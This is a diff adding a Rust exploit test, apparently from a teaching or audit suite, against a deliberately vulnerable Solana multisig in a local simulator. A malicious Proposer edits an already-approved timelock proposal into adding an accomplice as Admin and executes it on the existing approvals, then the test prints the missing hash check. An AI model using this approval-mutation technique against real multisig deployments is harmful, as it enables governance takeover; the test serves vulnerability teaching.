@@ -0,0 +1,163 @@
+// Exploit: Approved Proposal Mutation (Approvals Kept After Update)
+//
+// Vulnerability: V024 - update_proposal replaces a proposal's action and
+// recomputes its hash, but keeps every approval, and execute_proposal never
+// checks the hash against what was approved.
+//
+// Attack: A Proposer gets a harmless timelock change approved by the admin,
+// then swaps it for adding an accomplice as Admin and executes in one transaction.
+//
+// Result: The admin's approval, given for a hash they verified, adds a new Admin
+// they never saw.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::{types::TransactionResult, LiteSVM};
+use solana_sdk::{
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+
+const BENIGN_TIMELOCK: u64 = 3600;
+
+// Multisig layout: discriminator, multisig_id, creator, threshold, then owner_count
+const OWNER_COUNT_OFFSET: usize = 8 + 8 + 32 + 1;
+const MEMBERS_OFFSET: usize = OWNER_COUNT_OFFSET + 1;
+const MEMBER_LEN: usize = 33;
+
+struct ApprovedProposalMutation;
+
+struct ApprovedProposalMutationState {
+    scenario: MultisigScenario,
+    proposal_pda: Pubkey,
+    accomplice: Keypair,
+}
+
+// (pubkey, role) of member slot `index`
+fn member_at(svm: &LiteSVM, multisig: &Pubkey, index: usize) -> (Pubkey, u8) {
+    let data = svm.get_account(multisig).expect("Multisig should exist").data;
+    let start = MEMBERS_OFFSET + index * MEMBER_LEN;
+    let pubkey = Pubkey::try_from(&data[start..start + 32]).unwrap();
+    (pubkey, data[start + 32])
+}
+
+impl ExploitScenario for ApprovedProposalMutation {
+    type State = ApprovedProposalMutationState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V024",
+            title: "Approved Proposal Mutation",
+            severity: Severity::Critical,
+            lesson: "Pin the approved parameters with a hash checked at execution, and never keep approvals across edits",
+        }
+    }
+
+    fn setup(&self) -> ApprovedProposalMutationState {
+        println!("[Scenario] Proposer swaps an approved timelock change for a new Admin");
+
+        let mut scenario = setup_multisig_scenario(2, 0);
+        let owners = vec![
+            (scenario.creator.pubkey(), MemberRole::Admin),
+            (scenario.attacker.pubkey(), MemberRole::Proposer), // malicious proposer
+        ];
+        create_multisig_with_owners(
+            &mut scenario.svm,
+            &scenario.creator,
+            &scenario.multisig_pda,
+            &scenario.vault_pda,
+            scenario.multisig_id,
+            2, // threshold
+            0, // timelock
+            &owners,
+        );
+
+        // Attacker proposes a harmless change (auto-approved, 1/2)
+        let proposal_count = get_multisig_proposal_count(&scenario.svm, &scenario.multisig_pda);
+        let (proposal_pda, _) = derive_proposal_pda(&scenario.multisig_pda, proposal_count);
+        let ix = build_create_proposal_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &proposal_pda,
+            ProposalTypeDiscriminator::ChangeTimelock,
+            &BENIGN_TIMELOCK.to_le_bytes(),
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.attacker, &[&scenario.attacker]);
+        println!("[Setup] Proposal: ChangeTimelock {{ new_timelock: {} }}", BENIGN_TIMELOCK);
+
+        // The admin reviews it and approves (2/2)
+        let ix = build_approve_proposal_ix(
+            &scenario.creator.pubkey(),
+            &scenario.multisig_pda,
+            &proposal_pda,
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.creator, &[&scenario.creator]);
+        println!("[Setup] Admin approved the timelock change, threshold met");
+
+        ApprovedProposalMutationState {
+            scenario,
+            proposal_pda,
+            accomplice: Keypair::new(),
+        }
+    }
+
+    fn exploit(&self, state: &mut ApprovedProposalMutationState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // EXPLOIT: Swap the action, then execute on the approvals already counted
+        println!("\n[Attack] Proposer updates it to AddMember(accomplice, Admin) and executes");
+
+        let mut fields = state.accomplice.pubkey().to_bytes().to_vec();
+        fields.push(MemberRole::Admin as u8);
+        let update_ix = build_update_proposal_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &state.proposal_pda,
+            ProposalTypeDiscriminator::AddMember,
+            &fields,
+        );
+        let execute_ix = build_execute_proposal_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &state.proposal_pda,
+        );
+        send_tx(
+            &mut scenario.svm,
+            &[update_ix, execute_ix],
+            &scenario.attacker,
+            &[&scenario.attacker],
+        )
+    }
+
+    fn assert_impact(&self, state: &mut ApprovedProposalMutationState) -> u64 {
+        let svm = &state.scenario.svm;
+        let multisig = &state.scenario.multisig_pda;
+        let owner_count = svm.get_account(multisig).unwrap().data[OWNER_COUNT_OFFSET];
+        let (member, role) = member_at(svm, multisig, 2);
+
+        assert_eq!(owner_count, 3);
+        assert_eq!(member, state.accomplice.pubkey());
+        assert_eq!(role, MemberRole::Admin as u8);
+
+        println!("[VULNERABLE] An approved timelock change executed as AddMember!");
+        println!("[EXPLOIT SUCCESS] Accomplice {} is now an Admin", member);
+        println!("[EXPLOIT SUCCESS] The admin only ever approved ChangeTimelock");
+
+        println!("\n[Analysis] The vulnerable code is missing these checks:");
+        println!("           // update_proposal: reset approvals, or don't allow edits at all");
+        println!("           require!(");
+        println!("               self.proposal.proposal_hash()? == self.proposal.proposal_hash,");
+        println!("               MultisigError::ProposalHashMismatch");
+        println!("           );");
+
+        // Governance is taken over, no funds move directly
+        0
+    }
+}
+
+#[test]
+fn test_exploit_approved_proposal_mutation() {
+    run_exploit(&ApprovedProposalMutation);
+}